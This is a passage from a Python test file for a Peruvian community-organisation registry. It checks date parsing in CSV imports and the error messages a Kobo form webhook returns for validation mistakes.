             ("Club de Madres Niña María", "2021-03-16 00:00:00", "2021-03-16"), ("Vaso de Leche Ñaña", "16/03/2021 00:00", "2021-03-16"),
             ("Asociación Huáscar Unido", "44270", "2021-03-15"),
             ("Comedor Las Palmeras", "03/15/2021", None), ("Olla Común Las Lomas", "2021-03-16 10:30", None),
             ("Comedor Santa Rosa", "15/03/21", None), ("Olla Común Bayóvar", "2021", None)]
    mapping = write_csv(tmp_path / "mapeo.csv", MAPPING,
                        [Answers({"nombre": n, "distrito": "150132", "fecha_mapeo": d}) for n, d, _ in dates], language=0, encoding="cp1252")

    for args in (["--dry-run"], []):
        assert osv_import([*args, str(mapping), *connection]) == 1
        assert ("5 would be created, 0 already there, 4 refused" if args else "5 created, 0 already there, 4 refused") in capsys.readouterr().out
        problems = report_rows(tmp_path / ("mapeo.dry-run-report.xlsx" if args else "mapeo.import-report.xlsx"))
        refused = [(row, given) for row, (_, given, read) in enumerate(dates, start=2) if read is None]
        assert [(p[1], p[3], p[4]) for p in problems] == [(row, "mapped_on", "date_as_excel_writes_it") for row, _ in refused]
        assert {p[2] for p in problems} == {"Fecha de identificación"}  # the header as in the file
        for problem, (_, given) in zip(problems, refused, strict=True):
            taken = "15/03/2021 for March 15, 2021" if given == "03/15/2021" else "15/03/2021 (day first)"  # its own day said back
            assert taken in problem[5], problem[5]
            # A year alone is not said back: it may be a birth year, a person's data (tester 276 F4).
            assert (f"'{given}'" in problem[5]) is (given != "2021"), problem[5]
    mapped = httpx.get(f"{served['registry'].url}/osvs", headers=signed_in_headers("staff"), timeout=30).json()
    assert sorted((o["name"], o["mapped_on"]) for o in mapped) == sorted((n, read) for n, _, read in dates if read)


def test_a_webhook_posts_mistakes_name_kobo_keys_and_entries_as_the_promoter_counts_them(
    system: tuple[Any, dict[str, ServedApp]], identity_provider: IdentityProvider
) -> None:
    """An activity with the group VE/F given in entries 1 and 3 and a workshop ticked with no count, and a meeting whose
    one action is due before it: the answer named `direct_beneficiaries.2` (an API path, counted from 0), the count as
    `cantidad_workshop` (not its Kobo key) and "action item 0" (tester 30, L7). Kobo's log is all the promoter sees:
    every field is a Kobo key, every entry counted from 1, as the form shows them."""
    _, served = system
    registry, engagement = served["registry"].url, served["engagement"].url
    mapped = httpx.post(f"{registry}/osvs", json={"name": "Olla Común Virgen de Fátima", "district": "Comas", "mapped_on": "2021-03-15"},
                        headers=signed_in_headers("staff"), timeout=30)
    assert mapped.status_code == 201, mapped.text
    osv = mapped.json()["id"]
    auditor = signed_in_headers("auditor")
    eventually(lambda: httpx.get(f"{engagement}/osvs/{osv}/members", headers=auditor, timeout=30).status_code == 200, timeout=60)

    groups = [{"nacionalidad": "VE", "sexo": "F", "cantidad": 12}, {"nacionalidad": "PE", "sexo": "M", "cantidad": 8},
              {"nacionalidad": "VE", "sexo": "F", "cantidad": 3}]
    activity = Answers({"osv": osv, "fecha": "2021-07-10", "tipo": "mural_painting",
                        "distrito": "Comas", "productos": "mural workshop", "cantidad_mural": 1}, {"participantes": groups})
    meeting = Answers({"osv": osv, "fecha": "2021-07-12", "modalidad": "in_person", "temas": "needs"},
                      {"acciones": [{"descripcion": "Cotizar pintura", "responsable": "tesorería", "fecha_limite": "2021-07-01"}]})
    settings = ImportSettings(registry_url=registry, engagement_url=engagement,
                              kobo_hooks={"osv_activity": HOOK_SECRET, "osv_meeting": HOOK_SECRET},
                              client_secret=identity_provider.client_secret("osv-imports"))
    hook = ServedApp(imports_app(settings, auth_settings=AuthSettings(issuer=identity_provider.issuer)), free_port()).start()
    try:
        answers = {}
        for form, answer in (("osv_activity", kobo_json(ACTIVITY, activity)), ("osv_meeting", kobo_json(MEETING, meeting))):
            basic = base64.b64encode(f"{form}:{HOOK_SECRET}".encode()).decode()
            answers[form] = httpx.post(f"{hook.url}/kobo/{form}/submissions", json=answer, headers={"Authorization": f"Basic {basic}"}, timeout=60)
    finally:
        hook.stop()

    assert answers["osv_activity"].status_code == 422, answers["osv_activity"].text
    assert sorted(e["field"] for e in answers["osv_activity"].json()["errors"]) == ["cantidades/cantidad_workshop", "participantes[3]/nacionalidad, participantes[3]/sexo"]
    assert answers["osv_meeting"].status_code == 422, answers["osv_meeting"].text
    [late] = answers["osv_meeting"].json()["errors"]
    assert late["field"] == "acciones[1]/fecha_limite" and "action item 0" not in late["message"]
    assert "due on 2021-07-01, before the meeting on 2021-07-12" in late["message"]
